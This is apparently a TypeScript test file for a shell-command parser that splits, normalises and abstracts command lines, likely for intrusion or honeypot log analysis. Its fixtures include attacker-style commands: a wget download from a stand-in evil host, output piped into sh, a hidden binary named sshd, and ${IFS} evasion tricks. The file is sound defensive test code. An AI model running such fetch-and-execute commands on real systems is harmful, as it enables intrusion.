import fc from 'fast-check';
import { expect, it } from 'vitest';
import { canonical, program, shape, split } from './command-text.ts';

it.each([
  ['a; b && c || d & e', ['a', 'b', 'c', 'd', 'e']],
  ['cat x | grep y|wc -l', ['cat x | grep y|wc -l']],
  ['echo "a; b" \'c && d\'; e', ['echo "a; b" \'c && d\'', 'e']],
  ['x=$(a; b); c', ['x=$(a; b)', 'c']],
  ['ls > /dev/null 2>&1; w', ['ls > /dev/null 2>&1', 'w']],
  ['sh -c "wget x; sh y"', ['sh -c "wget x; sh y"', 'wget x', 'sh y']],
  ['if true; then ls; else w; fi', ['true', 'ls', 'w', 'fi']],
  ["echo it's; ls", ["echo it's", 'ls']],
  ['cat x |\n sh\nw', ['cat x |\n sh', 'w']],
])('%s', (text, pieces) => expect(split(text)).toEqual(pieces));

it('is the same for variants of one command', () => {
  const one = canonical("free -m | grep Mem | awk '{print $2 ,$3, $4}'");
  for (const other of [
    "free  -m|grep  'Mem'|awk '{print $2,$3,$4}'",
    '/usr/bin/free -m | /bin/grep Mem | awk "{print $2, $3, $4}"',
    'free${IFS}-m | grep M\\em | awk {print $2 , $3 ,$4}',
  ])
    expect(canonical(other)).toBe(one);
});

it('takes names and numbers out of a shape', () => {
  expect(shape('wget http://198.51.100.7/a -o .x')).toBe(shape('wget http://evil.example:80/b/c -o .x'));
  expect(shape('nohup ./.123/sshd 192.0.2.1 192.0.2.2')).toBe('nohup ./.<n>/sshd <ip> <ip>');
});

it.each([
  ['sudo nohup ./a/b c', 'b'],
  ['x=1 y=2 curl z', 'curl'],
  ['uname|sh', 'uname'],
  ['', ''],
])('the program of %s', (text, name) => expect(program(text)).toBe(name));

it('takes any text, in bounded time', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), (text) =>
      split(text).every((piece) => typeof shape(canonical(piece)) === 'string'),
    ),
  );
  for (const text of [
    'sh -c "'.repeat(9_000),
    '$('.repeat(30_000),
    "'".repeat(65_000),
    ' |'.repeat(30_000),
    ';'.repeat(65_000),
    '/bin/'.repeat(13_000),
  ]) {
    const began = performance.now();
    for (const piece of split(text)) shape(canonical(piece));
    expect(performance.now() - began, text.slice(0, 8)).toBeLessThan(1_000);
  }
});
